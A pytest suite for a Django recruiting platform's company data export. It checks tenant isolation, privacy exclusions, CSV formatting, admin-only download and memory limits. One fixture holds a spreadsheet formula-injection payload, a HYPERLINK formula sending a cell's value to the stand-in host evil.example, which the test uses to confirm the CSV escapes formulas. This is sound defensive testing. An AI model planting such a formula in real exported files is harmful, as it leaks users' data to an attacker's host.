"""The company's data export (issue 13, item 6): every table holds exactly the company's rows as its console shows
them, nothing of another company, nothing of a registrant's form and no personal referral link; the CSV files
are what Excel expects; the JSON document says the same; only admins may download; the command never
overwrites; memory stays bounded."""

from __future__ import annotations

import csv
import io
import json
import tracemalloc
import zipfile
from dataclasses import dataclass

import pytest
from django.conf import settings
from django.core.management import CommandError, call_command
from django.test import Client
from django.utils import timezone

from tsunagu.companies.models import Role
from tsunagu.lib.tokens import referral_token
from tsunagu.messaging.actions.suppression import suppress
from tsunagu.messaging.models import (
    EventKind,
    FollowUpStep,
    Message,
    MessageEvent,
    MessageKind,
    MessageStatus,
    MessageTemplate,
    SuppressionReason,
)
from tsunagu.privacy.company_export_files import EVERY_TABLE, CompanyExport
from tsunagu.relay.actions import requests as request_actions
from tsunagu.relay.models import (
    CreditStatus,
    Introduction,
    IntroductionStatus,
    LedgerEntry,
    ReferralRequest,
    Registration,
)
from tsunagu.relay.tests.desk_factories import make_registration
from tsunagu.relay.tests.referrals import REQUEST, company_client, earn_slots, registrant, rejected
from tsunagu.talent.models import Application, ApplicationEvent, Candidate, Job
from tsunagu.talent.normalize import email_key, name_key

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
# What registrants typed on the relay's form: the company must never receive it.
FORM_PHONE = "080-7777-6543"
FORM_DESIRED_JOB = "フォームにだけ書いた希望職種"
HIDDEN_REGISTRANT = "同意前 秘子"


@dataclass
class World:
    company: object
    other: object
    other_strings: list[str]
    personal_link: str


def populate(company, prefix: str) -> dict:
    """One of everything for a company, with strings that name the company (prefix) so that they can be
    looked for in another company's export."""
    application = rejected(company, email=f"{prefix}-candidate@example.jp", name=f"{prefix}野 太郎",
                           external_id=f"{prefix}-A-1", phone="090-1234-0001")
    candidate = application.candidate
    Candidate.objects.filter(pk=candidate.pk).update(note=FORMULA, desired_job=f"{prefix}の希望職種",
                                                     region_code="13")
    message = Message.objects.get(application=application, kind=MessageKind.REJECTION)
    link = f"{settings.BASE_URL}/r/{referral_token(message.pk)}"
    Message.objects.filter(pk=message.pk).update(
        status=MessageStatus.SENT, sent_at=timezone.now(), subject=f"{prefix}: 選考結果のご連絡",
        body_text=f"{prefix}野 太郎 様\nご登録はこちら: {link}\n")
    MessageEvent.objects.create(company=company, message=message, kind=EventKind.CLICKED, occurred_at=timezone.now(),
                                source="tracking", url=link, user_agent=f"{prefix}-agent", machine=True)
    # The operator's mail planned under the company's name (before issue 10): never the company's to see.
    Message.objects.create(company=company, kind=MessageKind.VERIFICATION, key=f"verify:{prefix}",
                           to_email=f"{prefix}-verify@example.jp", to_name=f"{prefix}確認", send_at=timezone.now(),
                           body_text=f"{settings.BASE_URL}/r/verify/abc.def")
    suppress(company, f"{prefix}-gone@example.jp", SuppressionReason.MANUAL)
    credited = make_registration(company, email=f"{prefix}-credited@example.jp", name=f"{prefix}登録 一郎",
                                 desired_job=FORM_DESIRED_JOB, desired_region="沖縄県")
    held = make_registration(company, email=f"{prefix}-held@example.jp", name=f"{prefix}保留 二郎",
                             status=CreditStatus.HELD, desired_job=FORM_DESIRED_JOB)
    Registration.objects.filter(pk__in=[credited.pk, held.pk]).update(phone=FORM_PHONE)
    credited.request.__class__.objects.filter(pk__in=[credited.request_id, held.request_id]).update(phone=FORM_PHONE)
    earn_slots(company, 1, prefix=f"{prefix}-earner")
    referral = request_actions.file_request(company, request_actions.RequestForm(**{**REQUEST, "title": f"{prefix}営業"}))
    introduced = Introduction.objects.create(
        request=referral, registrant=registrant(email=f"{prefix}-introduced@example.jp", name=f"{prefix}推薦 花子"),
        status=IntroductionStatus.INTRODUCED, consented_at=timezone.now(), recommendation=f"{prefix}の推薦文")
    waiting = Introduction.objects.create(
        request=referral, registrant=registrant(email=f"{prefix}-waiting@example.jp", name=HIDDEN_REGISTRANT + prefix,
                                                phone="070-0000-1111"),
        status=IntroductionStatus.CONSENT_REQUESTED, recommendation=f"{prefix}の同意前の推薦文")
    return {"application": application, "candidate": candidate, "message": message, "link": link,
            "credited": credited, "held": held, "referral": referral, "introduced": introduced, "waiting": waiting}


@pytest.fixture
def world(make_company):
    company, _ = make_company(slug="acme", name="株式会社アクメ", referral_ratio=1)
    other, _ = make_company(slug="other", name="株式会社アザー", referral_ratio=1)
    mine = populate(company, "アクメ")
    populate(other, "アザー")
    other_strings = ["アザー", "@other.", "株式会社アザー"]
    return World(company=company, other=other, other_strings=other_strings, personal_link=mine["link"])


def zip_export(company) -> tuple[bytes, dict[str, int]]:
    export = CompanyExport(company)
    return b"".join(export.zip_chunks()), export.row_counts


def json_export(company) -> tuple[bytes, dict[str, int]]:
    export = CompanyExport(company)
    return b"".join(export.json_chunks()), export.row_counts


def csv_tables(data: bytes) -> dict[str, list[dict]]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        assert archive.testzip() is None
        return {name.removesuffix(".csv"): list(csv.DictReader(io.StringIO(archive.read(name).decode("utf-8-sig"),
                                                                           newline="")))
                for name in archive.namelist() if name.endswith(".csv")}


def ids(rows, column="id") -> set[int]:
    return {int(row[column]) for row in rows if row[column] not in ("", None)}


# --- what is in it -------------------------------------------------------------------------------------

def test_every_table_holds_exactly_the_companys_rows(world):
    data, counts = zip_export(world.company)
    tables = csv_tables(data)
    company = world.company
    assert set(tables) == {table.name for table in EVERY_TABLE}
    assert {name: len(rows) for name, rows in tables.items()} == counts

    assert ids(tables["jobs"]) == set(Job.objects.filter(company=company).values_list("pk", flat=True))
    assert ids(tables["candidates"]) == set(Candidate.objects.filter(company=company).values_list("pk", flat=True))
    assert ids(tables["applications"]) == set(Application.objects.filter(company=company).values_list("pk", flat=True))
    assert ids(tables["application_events"]) == set(
        ApplicationEvent.objects.filter(company=company).values_list("pk", flat=True))
    # Every message but the operator's.
    assert ids(tables["messages"]) == set(Message.objects.filter(company=company).exclude(
        kind=MessageKind.VERIFICATION).values_list("pk", flat=True))
    assert ids(tables["message_events"]) == set(MessageEvent.objects.filter(company=company).values_list("pk", flat=True))
    assert [row["email"] for row in tables["suppressions"]] == ["アクメ-gone@example.jp"]
    assert ids(tables["follow_up_steps"]) == set(FollowUpStep.objects.filter(company=company).values_list("pk", flat=True))
    assert ids(tables["message_templates"]) == set(
        MessageTemplate.objects.filter(company=company).values_list("pk", flat=True))
    assert ids(tables["ledger"]) == set(LedgerEntry.objects.filter(company=company).values_list("pk", flat=True))
    assert ids(tables["referral_requests"]) == set(
        ReferralRequest.objects.filter(company=company).values_list("pk", flat=True))
    assert ids(tables["introductions"]) == set(
        Introduction.objects.filter(request__company=company).values_list("pk", flat=True))
    registrations = Registration.objects.filter(company=company)
    assert sorted((int(row["candidate_id"]), row["credit_status"]) for row in tables["registrations"]) == sorted(
        registrations.values_list("candidate_id", "credit_status"))
    assert {status for _, status in registrations.values_list("pk", "credit_status")} == {"credited", "held"}
    [month] = tables["registrations_by_month"]
    assert month["month"] == f"{timezone.localtime(timezone.now()):%Y-%m}"
    assert int(month["registrations"]) == registrations.count()
    assert int(month["held"]) == 1 and int(month["credited"]) == registrations.filter(credit_status="credited").count()
    assert {row["kind"] for row in tables["referral_request_history"]} >= {"filed"}


def test_a_candidates_row_holds_what_hr_sees(world):
    tables = csv_tables(zip_export(world.company)[0])
    candidate = Candidate.objects.get(company=world.company, email="アクメ-candidate@example.jp")
    [row] = [row for row in tables["candidates"] if int(row["id"]) == candidate.pk]
    assert row["name"] == "アクメ野 太郎" and row["phone"] == "090-1234-0001"
    assert row["desired_job"] == "アクメの希望職種" and row["region_code"] == "13"
    assert row["contact_allowed"] == "true" and row["pool_state"] == "rejected"
    assert row["last_rejected_at"].endswith("+00:00")
    [application] = [a for a in tables["applications"] if a["external_id"] == "アクメ-A-1"]
    assert int(application["candidate_id"]) == candidate.pk and application["status"] == "rejected"
    assert application["job_title"] == "営業"


def test_nothing_of_another_company_appears(world):
    for data in (zip_export(world.company)[0], json_export(world.company)[0]):
        text = (b"".join(zipfile.ZipFile(io.BytesIO(data)).read(name) for name in
                         zipfile.ZipFile(io.BytesIO(data)).namelist()) if data[:2] == b"PK" else data).decode("utf-8")
        for value in world.other_strings:
            assert value not in text
    tables = csv_tables(zip_export(world.company)[0])
    theirs = {
        "candidates": Candidate.objects.filter(company=world.other),
        "applications": Application.objects.filter(company=world.other),
        "messages": Message.objects.filter(company=world.other),
        "ledger": LedgerEntry.objects.filter(company=world.other),
        "referral_requests": ReferralRequest.objects.filter(company=world.other),
        "jobs": Job.objects.filter(company=world.other),
    }
    for name, rows in theirs.items():
        assert not ids(tables[name]) & set(rows.values_list("pk", flat=True)), name


def test_a_registrants_form_and_personal_links_never_appear(world):
    for data in (zip_export(world.company)[0], json_export(world.company)[0]):
        if data[:2] == b"PK":
            archive = zipfile.ZipFile(io.BytesIO(data))
            text = "".join(archive.read(name).decode("utf-8") for name in archive.namelist())
        else:
            text = data.decode()
        token = world.personal_link.rsplit("/", 1)[1]
        for secret in (FORM_PHONE, FORM_DESIRED_JOB, "沖縄県", HIDDEN_REGISTRANT, "070-0000-1111", "同意前の推薦文",
                       world.personal_link, token, "/r/verify/", "アクメ-agent", "アクメ確認"):
            assert secret not in text, secret
        # The introduced person, who consented, is there with the recommendation.
        assert "アクメ推薦 花子" in text and "アクメの推薦文" in text
        assert "(候補者ごとのリンク)" in text  # the placeholder the console shows


def test_csv_files_are_what_excel_expects(world):
    data, _ = zip_export(world.company)
    archive = zipfile.ZipFile(io.BytesIO(data))
    for name in archive.namelist():
        if not name.endswith(".csv"):
            continue
        raw = archive.read(name)
        assert raw.startswith(b"\xef\xbb\xbf"), name
        assert raw.endswith(b"\r\n"), name
        header = raw[3:].split(b"\r\n", 1)[0].decode()
        assert header == ",".join(next(t for t in EVERY_TABLE if f"{t.name}.csv" == name).columns)
        if name != "messages.csv" and name != "message_templates.csv" and name != "referral_requests.csv":
            # Rows end in CRLF; a bare LF would only be a line break inside a quoted cell (a mail's text).
            assert b"\n" not in raw.replace(b"\r\n", b""), name
    candidates = csv_tables(data)["candidates"]
    [row] = [row for row in candidates if row["email"] == "アクメ-candidate@example.jp"]
    assert row["note"] == "'" + FORMULA
    manifest = json.loads(archive.read("manifest.json"))
    assert manifest["company"]["slug"] == "acme" and manifest["company"]["referral_ratio"] == 1
    assert {table["file"]: table["rows"] for table in manifest["tables"]} == {
        f"{name}.csv": len(rows) for name, rows in csv_tables(data).items()}


def test_the_json_document_says_what_the_csv_files_say(world):
    data, counts = json_export(world.company)
    document = json.loads(data)
    assert document["company"]["name"] == "株式会社アクメ"
    assert document["exported_at"].endswith("+00:00")
    tables = csv_tables(zip_export(world.company)[0])
    assert document["row_counts"] == counts == {name: len(rows) for name, rows in tables.items()}
    for table in EVERY_TABLE:
        assert len(document[table.name]) == len(tables[table.name])
        for row in document[table.name]:
            assert list(row) == list(table.columns)
    [candidate] = [row for row in document["candidates"] if row["email"] == "アクメ-candidate@example.jp"]
    assert candidate["note"] == FORMULA  # JSON holds the value itself
    assert candidate["contact_allowed"] is True and isinstance(candidate["id"], int)
    [request] = document["referral_requests"]
    assert request["salary_min_yen"] == REQUEST["salary_min"] and request["slot"] == "reserved"


# --- the console and the command ----------------------------------------------------------------------

def test_an_admin_downloads_both_formats_of_their_own_company(world):
    client = company_client(world.company, Role.ADMIN)
    page = client.get("/console/privacy/export/")
    assert page.status_code == 200
    assert b"/console/privacy/export.zip" in page.content and b"/console/privacy/export.json" in page.content
    response = client.get("/console/privacy/export.zip")
    assert response.status_code == 200 and response["Content-Type"] == "application/zip"
    assert response["Content-Disposition"].startswith('attachment; filename="tsunagu-acme-')
    assert response["Cache-Control"] == "no-store"
    tables = csv_tables(b"".join(response.streaming_content))
    assert {row["email"] for row in tables["candidates"]} >= {"アクメ-candidate@example.jp"}
    response = client.get("/console/privacy/export.json")
    document = json.loads(b"".join(response.streaming_content))
    assert document["company"]["slug"] == "acme"
    # The other company's admin gets their own company's data only.
    theirs = company_client(world.other, Role.ADMIN, email="admin2@other.example")
    document = json.loads(b"".join(theirs.get("/console/privacy/export.json").streaming_content))
    assert document["company"]["slug"] == "other"
    assert "アクメ" not in json.dumps(document, ensure_ascii=False)


@pytest.mark.parametrize("role", [Role.VIEWER, Role.RECRUITER])
def test_viewers_and_recruiters_are_refused(world, role):
    client = company_client(world.company, role)
    for path in ("/console/privacy/export/", "/console/privacy/export.zip", "/console/privacy/export.json"):
        assert client.get(path).status_code == 403
        assert client.post(path).status_code == 405  # GET only, for everyone
    assert Client().get("/console/privacy/export.zip").status_code == 302  # to the login page


def test_the_settings_page_links_the_export(world):
    client = company_client(world.company, Role.ADMIN)
    assert b'href="/console/privacy/export/"' in client.get("/console/settings/").content


def test_the_command_writes_a_new_file_and_refuses_to_overwrite(world, tmp_path, capsys):
    target = tmp_path / "acme.zip"
    call_command("privacy_export", "--company", "acme", "--format", "zip", "--output", str(target))
    summary = json.loads(capsys.readouterr().out)
    assert summary["path"] == str(target) and summary["format"] == "zip"
    assert summary["rows"] == {name: len(rows) for name, rows in csv_tables(target.read_bytes()).items()}
    assert target.stat().st_mode & 0o777 == 0o600
    before = target.read_bytes()
    with pytest.raises(CommandError, match="exists already"):
        call_command("privacy_export", "--company", "acme", "--format", "json", "--output", str(target))
    assert target.read_bytes() == before
    document = tmp_path / "acme.json"
    call_command("privacy_export", "--company", "acme", "--format", "json", "--output", str(document))
    assert json.loads(document.read_text())["row_counts"] == summary["rows"]
    with pytest.raises(CommandError, match="no company"):
        call_command("privacy_export", "--company", "nobody", "--format", "json", "--output", str(tmp_path / "x"))
    assert not (tmp_path / "x").exists()


# --- bounded memory -----------------------------------------------------------------------------------

def test_memory_stays_bounded_however_many_rows(make_company):
    company, _ = make_company(slug="big", name="株式会社ビッグ")
    note = "応募者についてのメモです。" * 200  # 2,600 characters, 7.8 kB in UTF-8
    Candidate.objects.bulk_create(
        Candidate(company=company, name=f"候補 {number}", email=f"c{number}@big.example", note=note,
                  name_key=name_key(f"候補 {number}"), email_key=email_key(f"c{number}@big.example"))
        for number in range(4000))
    total = 4000 * len(note.encode())
    for chunks in (lambda: CompanyExport(company).zip_chunks(), lambda: CompanyExport(company).json_chunks()):
        tracemalloc.start()
        try:
            written = sum(len(chunk) for chunk in chunks())
            _, peak = tracemalloc.get_traced_memory()
        finally:
            tracemalloc.stop()
        assert written > 0
        assert peak < total / 3, f"peak {peak:,} bytes for {total:,} bytes of notes"
